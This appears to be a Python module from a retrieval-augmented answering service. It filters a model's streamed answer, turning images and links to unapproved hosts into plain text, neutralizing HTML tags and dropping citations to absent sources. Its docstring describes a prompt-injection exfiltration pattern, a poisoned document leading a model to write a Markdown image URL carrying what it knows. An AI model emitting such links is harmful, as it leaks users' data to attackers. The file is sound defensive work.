"""Takes out of an answer what a document may have put into it, as it is being written.

A poisoned document can make a model write ``![](https://host/?what=it+knows)``, which many
programs load as soon as they show the answer (OWASP LLM01 and LLM02). So images and links to other
hosts become plain text, HTML that could load something is broken, and a citation of a source
that is not there is removed.

The text is read as Markdown (CommonMark 0.31), but whatever two readers could understand
differently counts as dangerous: inline code is believed for citations only. Code blocks between
fences at the left margin stay as they are.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Set
from dataclasses import dataclass

from ragdeploy_service.rag.answering.citations import expanded
from ragdeploy_service.rag.answering.links import TARGET, harmless

# Characters to wait for the end of something; what takes longer is treated as text.
_PATIENCE = 2000

_SPECIAL = re.compile(r"[\\`!\[\]【<\n]|(?:https?|ftp)://|www\.", re.IGNORECASE)
_BEGINNINGS = ("https://", "http://", "ftp://", "www.")
_FENCE = re.compile(r"(?P<run>`{3,}(?=[^`\n]*(?:\n|$))|~{3,})[^\n]*(?:\n|$)")
_URL = re.compile(r"(?:[a-z]+://|www\.)[!-~]*?(?=[<>\"`\[\]\\]|[^!-~]|$)", re.IGNORECASE)
# What stands behind the name of a link that is used elsewhere in the text, and leads off the page.
_DEFINITION = re.compile(r"\]:[ \t]*\n?[ \t]*(?P<destination>\S+)")
_ELSEWHERE = re.compile(r"[:\\&]|^<?/")
_AUTOLINK = re.compile(r"<([a-z][a-z0-9+.-]*:[^\s<>]*)>", re.IGNORECASE)
_PLAIN_TAG = re.compile(r"</?(?!script|style|svg|math|base|meta|link)[a-z][a-z0-9]*/?>", re.I)
_OUR_FENCE = re.compile(r"</?(?:passage|instruction|user|assistant)-[0-9a-f]{16}>")
_NUMBERS = r"\d{1,2}(?:\s*[-\u2013,，、;]\s*\d{1,2})*"
_CITATION = re.compile(rf"\[\s*(?P<square>{_NUMBERS})\s*\]|【\s*(?P<lens>{_NUMBERS})\s*】")


@dataclass(frozen=True, slots=True)
class _Step:
    """How many characters were read, what is written for them, and what is to be read instead."""

    read: int
    write: str
    again: str = ""


class SafeText:
    """Reads an answer piece by piece and gives out what is safe of it.

    >>> text = SafeText(sources=3)
    >>> "".join([text.feed("It scales [1]"), text.feed(" [7]."), text.end()])
    'It scales [1].'

    ``sources`` counts the sources; None leaves citations alone. ``hosts`` are those that links and
    images may lead to. Blanks around the whole are dropped.
    """

    def __init__(self, *, sources: int | None, hosts: Set[str] = frozenset()) -> None:
        self._sources = sources
        self._hosts = hosts
        self._held = ""  # read, and not decided on
        self._blank = ""  # decided on, and not written: it may be the end
        self._written = ""  # of the line that is being written
        self._begun = False
        self._fence = ""  # the run that opened the code block that we are in
        self._code = ""  # the run that opened the inline code that we seem to be in
        self._rules: dict[str, Callable[[bool], _Step | None]] = {
            "\\": self._escape,
            "`": self._backticks,
            "!": self._bang,
            "[": lambda final: self._bracket("[", final),
            "【": self._lens,
            "]": self._junction,
            "<": self._angle,
            "\n": lambda _: _Step(1, "\n"),
        }

    def feed(self, piece: str) -> str:
        """Read a piece; what can be given out by now."""
        self._held += piece
        if not self._begun:
            self._held = self._held.lstrip()
        return self._take(final=False)

    def end(self) -> str:
        """Read to the end; the rest."""
        return self._take(final=True)

    def _take(self, *, final: bool) -> str:
        taken: list[str] = []
        while self._held:
            step = self._fenced(final) if self._fence else self._step(final)
            if step is None:
                break
            self._held = step.again + self._held[step.read :]
            taken.append(self._write(step.write))
        return "".join(taken)

    def _write(self, text: str) -> str:
        if not self._begun:
            text = text.lstrip()
        if not text:
            return ""
        self._begun = True
        last = "" if self._fence else self._written[-1:]
        # What was removed in between must not leave a link or a tag behind.
        if (last == "]" and text[0] in "(:") or (last == "<" and re.match(r"[a-z/!?]", text, re.I)):
            text = f" {text}"
        if "\n" in text:
            self._code = ""
        self._written = (self._written + text).rpartition("\n")[2]
        whole = self._blank + text
        written = whole.rstrip()
        self._blank = whole[len(written) :]
        return written

    # ---- what stands next; None: wait for more ----
    def _step(self, final: bool) -> _Step | None:
        if not self._written and self._held[0] in "`~":
            step = self._opening(final)
            if step is None or step.read:
                return step
        special = _SPECIAL.search(self._held)
        if special is None:
            size = len(self._held) - (0 if final else _open_end(self._held))
            return _Step(size, self._held[:size]) if size else None
        if special.start():
            return _Step(special.start(), self._held[: special.start()])
        return self._rules.get(self._held[0], self._url)(final)

    def _opening(self, final: bool) -> _Step | None:
        """A fence at the left margin; nothing is read if it is none."""
        run = re.match(r"`{1,2}(?=[^`])|~{1,2}(?=[^~])", self._held)
        if run is not None:
            return _Step(0, "")
        if "\n" not in self._held and not final:
            return None if len(self._held) < _PATIENCE else _Step(0, "")
        fence = _FENCE.match(self._held)
        if fence is None:
            return _Step(0, "")
        self._fence = fence["run"]
        return _Step(fence.end(), fence[0])

    def _fenced(self, final: bool) -> _Step | None:
        """A line of a code block, or its end."""
        line, newline, _ = self._held.partition("\n")
        closing = re.compile(rf" {{0,3}}{self._fence[0]}*[ \t]*")
        if not self._written and closing.fullmatch(line):
            if not newline and not final:
                return None
            if line.strip().startswith(self._fence):
                self._fence = ""
        return _Step(len(line + newline), line + newline)

    def _escape(self, final: bool) -> _Step | None:
        if len(self._held) == 1 and not final:
            return None
        size = 2 if re.match(r"\\[!-/:-@\[-`{-~]", self._held) else 1
        return _Step(size, self._held[:size])

    def _backticks(self, final: bool) -> _Step | None:
        run = self._held[: len(self._held) - len(self._held.lstrip("`"))]
        if run == self._held and not final:
            return None
        if self._code == run:
            self._code = ""
            return _Step(len(run), run)
        line = self._held[len(run) :].partition("\n")[0]
        closed = re.search(rf"(?<!`){run}(?!`)", line)
        ended = final or "\n" in self._held or len(line) > _PATIENCE
        if not self._code and (closed is None or closed.end() == len(line)) and not ended:
            return None
        if not self._code and closed:
            self._code = run
        return _Step(len(run), run)

    def _bang(self, final: bool) -> _Step | None:
        if self._held == "!" and not final:
            return None
        return self._bracket("![", final) if self._held[1:2] == "[" else _Step(1, "!")

    def _bracket(self, opening: str, final: bool) -> _Step | None:
        """A link or an image without brackets in its text, a citation, or only a bracket."""
        text = _Step(len(opening), opening)
        start = len(opening)
        end = re.compile(r"(?:[^\[\]\\]|\\.)*", re.DOTALL).match(self._held, start)
        close = end.end() if end else start
        following = self._held[close + 1 : close + 2]
        if not following and not final and self._may_come():
            return None
        if self._held[close : close + 1] != "]":
            return text
        label = self._held[start:close]
        if following == "(":
            target = TARGET.match(self._held, close + 1)
            if target is None:
                return None if not final and self._may_come() else text
            if harmless(target["destination"], hosts=self._hosts):
                return text
            numbered = opening == "[" and re.fullmatch(_NUMBERS, label)
            return _Step(target.end(), "", again=f"[{label}]" if numbered else label)
        citation = _CITATION.match(self._held) if opening == "[" else None
        return self._citation(citation, final) if citation else text

    def _lens(self, final: bool) -> _Step | None:
        citation = _CITATION.match(self._held)
        if citation is None:
            return None if not final and len(self._held) < 10 else _Step(1, "【")
        return self._citation(citation, final)

    def _citation(self, found: re.Match[str], final: bool) -> _Step | None:
        if self._sources is None or self._code:
            return _Step(1, self._held[0])
        following = self._held[found.end() : found.end() + 1]
        if not following and not final:
            return None
        numbers = expanded(found["square"] or found["lens"])
        valid = [number for number in numbers if 1 <= number <= self._sources]
        if not valid:
            if not following.isalnum():
                self._blank = self._blank.rstrip(" ")
            return _Step(found.end(), "")
        text = f"[{', '.join(map(str, valid))}"
        # The bracket is read again, because of what may follow it.
        return _Step(found.end(), text, again="]")

    def _junction(self, final: bool) -> _Step | None:
        """A closing bracket and what makes a link of it."""
        following = self._held[1:2]
        if not following and not final:
            return None
        if following == "(":
            target = TARGET.match(self._held, 1)
            if target is None:
                return None if not final and self._may_come() else _Step(2, "] (")
            if not harmless(target["destination"], hosts=self._hosts):
                return _Step(target.end(), "", again="]")
            return _Step(target.end(), f"]({target['destination']})")
        if following == ":":
            definition = _DEFINITION.match(self._held)
            whole = definition is not None and definition.end() < len(self._held)
            if not whole and not final and self._may_come():
                return None
            destination = definition["destination"] if definition else ""
            apart = _ELSEWHERE.search(destination) and not harmless(destination, hosts=self._hosts)
            return _Step(2, "] :" if apart else "]:")
        return _Step(1, "]")

    def _angle(self, final: bool) -> _Step | None:
        whole = re.match(r"<[^\s<>]*(.|\n)?", self._held)
        if whole and not whole[1] and not final and self._may_come():
            return None
        if autolink := _AUTOLINK.match(self._held):
            if harmless(autolink[1], hosts=self._hosts):
                return _Step(autolink.end(), autolink[0])
            return _Step(autolink.end(), "", again=autolink[1])
        if ours := _OUR_FENCE.match(self._held):
            return _Step(ours.end(), "")
        if not re.match(r"<[a-z/!?]", self._held, re.IGNORECASE):
            return _Step(1, "<")
        tag = _PLAIN_TAG.match(self._held)
        # At the start of a line a tag begins a block of HTML, in which nothing is code.
        if tag and self._written.strip():
            return _Step(tag.end(), tag[0])
        return _Step(1, "< ")

    def _url(self, final: bool) -> _Step | None:
        """An address that many readers make a link of; code they leave alone."""
        found = _URL.match(self._held)
        if found is None or (found.end() == len(self._held) and not final and self._may_come()):
            return None if found else _Step(1, self._held[0])
        url = found[0].rstrip(".,;:!?'*_~)")
        whole = url if "://" in url else f"https://{url}"
        if self._code or harmless(whole, hosts=self._hosts):
            return _Step(len(url), url)
        return _Step(len(url), f"`{url}`")

    def _may_come(self) -> bool:
        return len(self._held) < _PATIENCE and not re.search(r"\n[ \t]*\n", self._held)


def _open_end(text: str) -> int:
    """Length of the end of a text that may become an address."""
    tail = text[-8:].lower()
    return max(
        (n for n in range(1, len(tail) + 1) if any(b.startswith(tail[-n:]) for b in _BEGINNINGS)),
        default=0,
    )


def safe(text: str, *, sources: int | None, hosts: Set[str] = frozenset()) -> str:
    """Make a whole text safe."""
    whole = SafeText(sources=sources, hosts=hosts)
    return whole.feed(text) + whole.end()
